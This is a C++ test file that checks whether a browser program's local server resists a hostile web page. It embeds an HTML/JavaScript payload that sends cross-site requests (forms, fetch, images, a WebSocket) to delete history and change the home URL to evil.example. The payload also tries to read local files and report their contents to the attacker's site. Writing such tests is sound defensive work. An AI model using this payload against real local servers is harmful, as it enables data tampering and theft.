// A hostile web site shown in the program's page window, firing at our local server.
#include <gtest/gtest.h>
#include <signal.h>

#include <QWebEngineUrlRequestInfo>
#include <sstream>

#include "WindowedProgram.h"
#include "support/RawHttp.h"
#include "ui/LocalServerGuard.h"

namespace {

using namespace std::chrono_literals;

// The hostile page: images, fetch (plain and no-cors), forms sent by script (GET and
// POST, into a frame), a redirect through its own site, a WebSocket and a navigation,
// aimed at every command on every name of our server, with and without a guessed key;
// it also tries to read our pages, and reports what it got to its own site.
const char kHostilePage[] = R"(<html><body><iframe name=sink></iframe>
<form id=get target=sink method=get action='http://localhost:PORT/sethome_browser.ido'>
<input name=homeurl value='http://evil.example/'><input name=key value='GUESS'></form>
<form id=post target=sink method=post action='http://127.0.0.1:PORT/delscjitem_browser.ido?id=0'>
<input name=key value='GUESS'></form>
<script>
function report(x) { new Image().src = '/report?' + encodeURIComponent(x); }
var bases = ['http://localhost:PORT/', 'http://127.0.0.1:PORT/', 'http://[::1]:PORT/'];
var commands = ['delscjitem_browser.ido?id=0', 'delhis_browser.ido?id=0', 'clearhis_browser.ido/?x=1',
                'sethome_browser.ido?homeurl=javascript:alert(1)&Submit=s'];
bases.forEach(function(b) { commands.forEach(function(c) { ['', '&key=GUESS'].forEach(function(k) {
  new Image().src = b + c + k;
  fetch(b + c + k, {mode: 'no-cors'}).then(function() { report('REACHED ' + c); }, function() {});
}); }); });
bases.forEach(function(b) { ['scj.htm', 'menu.htm', 'varnok.ini', 'sysmsg.htm'].forEach(function(f) {
  fetch(b + f).then(function(r) { return r.text(); }).then(function(t) { report('READ ' + f + ' ' + t); },
                                                         function() {});
}); });
new Image().src = '/redirect';
try { new WebSocket('ws://localhost:PORT/clearhis_browser.ido/?key=GUESS'); } catch (e) {}
document.getElementById('get').submit();
document.getElementById('post').submit();
setTimeout(function() { report('done'); location.href = bases[0] + commands[2]; }, 4000);
</script></body></html>)";

std::string HostilePage(int port, const std::string& guess) {
  std::string page = kHostilePage;
  for (const auto& [name, value] :
       {std::pair<std::string, std::string>{"PORT", std::to_string(port)}, {"GUESS", guess}})
    for (size_t at = page.find(name); at != std::string::npos; at = page.find(name, at + value.size()))
      page.replace(at, name.size(), value);
  return page;
}

TEST(CrossOriginTest, AHostilePageChangesNothingAndReadsNothing) {
  std::unique_ptr<Program> program;
  // The page may be asked for before the program's server is up: it waits for its port.
  PageListener site([&](const std::string& path) {
    if (path == "/redirect")
      return "HTTP/1.0 302 Found\r\nLocation: " + program->LocalUrl("/clearhis_browser.ido/") + "\r\n\r\n";
    if (path == "/evil") return PageListener::HtmlAnswer(HostilePage(program->port.Wait(), std::string(32, '7')));
    return PageListener::HtmlAnswer("ok");
  });
  program = std::make_unique<Program>(site.Url("/evil"));
  program->environment["VARNOK_VERBOSE"] = "1";  // the server logs every request it parses
  WriteFileOrDie(program->dir / "varnok.ini",
                 "[homeurl]\r\nurl1=" + site.Url("/evil") +
                     "\r\n[history]\r\nurl1=http://h/\r\n[soucangjia]\r\nurl1=http://f/\r\n");
  auto child = program->Start();
  ASSERT_TRUE(WaitUntil([&] { return site.Requested("/report?done"); }, 90s)) << child->Output();
  // A request of our own, which the server must log like any other.
  RawHttpExchange(program->port.Wait(), "GET /sysmsg.htm HTTP/1.0\r\nHost: localhost\r\n\r\n");
  child->Signal(SIGTERM);
  ASSERT_EQ(child->WaitForExit(30s), 0) << child->Output();

  const std::string ini = program->Ini();
  EXPECT_NE(ini.find("[homeurl]\r\nurl1=" + site.Url("/evil") + "\r\n"), std::string::npos) << ini;
  EXPECT_NE(ini.find("url2=http://h/\r\n"), std::string::npos) << ini;
  EXPECT_NE(ini.find("[soucangjia]\r\nurl1=http://f/\r\n"), std::string::npos) << ini;
  EXPECT_NE(program->Page("scj.htm").find("http://f/"), std::string::npos);
  EXPECT_NE(program->Page("menu.htm").find("http://h/"), std::string::npos);

  const std::string reports = site.Requests();
  EXPECT_EQ(reports.find("READ"), std::string::npos) << reports;
  EXPECT_EQ(reports.find("REACHED"), std::string::npos) << reports;
  // Refused before they left the engine: the server never saw one of them, while it did
  // see the request the test made itself. The one exception is the hostile site's own
  // redirect: the engine does not show the guard the target of a redirect, so that
  // request may reach the server, where the missing key refuses it.
  const std::string redirected = "request GET /clearhis_browser.ido/ HTTP/1.1 parsed";
  std::string parsed;
  std::istringstream log(child->Output());
  for (std::string line; std::getline(log, line);)
    if (line.find(" parsed") != std::string::npos && line.find(redirected) == std::string::npos)
      parsed += line + "\n";
  if (child->Output().find(redirected) != std::string::npos) {
    EXPECT_NE(child->Output().find("[GET /clearhis_browser.ido/ HTTP/1.1] the command does not come from a page of "
                                   "this browser"),
              std::string::npos)
        << child->Output();
  }
  for (const char* name : {"_browser.ido", "scj.htm", "menu.htm", "varnok.ini", "POST"})
    EXPECT_EQ(parsed.find(name), std::string::npos) << name << "\n" << parsed;
  EXPECT_NE(parsed.find("request GET /sysmsg.htm"), std::string::npos) << parsed;
}

// The guard's decision for requests as the engine describes them.
TEST(LocalServerGuardTest, RefusesOnlyOtherOriginsRequestsToOurServer) {
  LocalServerGuard guard([] { return 10101; }, "/opt/varnok/", nullptr);
  const QUrl command("http://localhost:10101/delscjitem_browser.ido?id=0");
  auto allows = [&](const QUrl& url, const QString& initiator, const QString& firstParty, bool typed = false) {
    return guard.Allows({url, QUrl(initiator), QUrl(firstParty), typed});
  };
  // Web sites: any name and letter case of our server, any kind of request.
  for (const char* target : {"http://localhost:10101/scj.htm", "http://LOCALHOST:10101/", "http://127.0.0.1:10101/x",
                             "http://[::1]:10101/clearhis_browser.ido/", "ws://localhost:10101/delhis_browser.ido"})
    EXPECT_FALSE(allows(QUrl(target), "https://evil.example", "https://evil.example/page")) << target;
  EXPECT_FALSE(allows(command, "null", "https://evil.example/"));                    // an opaque (sandboxed) origin
  EXPECT_FALSE(allows(command, "http://localhost:8080", "http://localhost:8080/"));  // another port of ours
  EXPECT_FALSE(allows(command, "file:///", "file:///home/me/Downloads/page.htm"));   // a file elsewhere

  // Our own pages, the engine's own loads and what the person types or picks.
  EXPECT_TRUE(allows(command, "http://localhost:10101", "http://localhost:10101/scj.htm"));
  EXPECT_TRUE(allows(command, "http://127.0.0.1:10101", "http://127.0.0.1:10101/menu.htm"));
  EXPECT_TRUE(allows(command, "file:///", "file:///opt/varnok/scj.htm"));
  EXPECT_TRUE(allows(command, "file:///", command.toString()));  // a file page's link opening in its window
  EXPECT_TRUE(allows(command, "", command.toString()));
  EXPECT_TRUE(allows(command, "https://evil.example", command.toString(), true));
  EXPECT_FALSE(allows(command, "file:///", "file:///opt/varnok/../other/x.htm"));

  // Everything not addressed to our server passes untouched.
  EXPECT_TRUE(allows(QUrl("http://localhost:10102/"), "https://evil.example", "https://evil.example/"));
  EXPECT_TRUE(allows(QUrl("https://localhost:10101/"), "https://evil.example", "https://evil.example/"));
  EXPECT_TRUE(allows(QUrl("https://www.example.cn/"), "https://evil.example", "https://evil.example/"));
}

}  // namespace
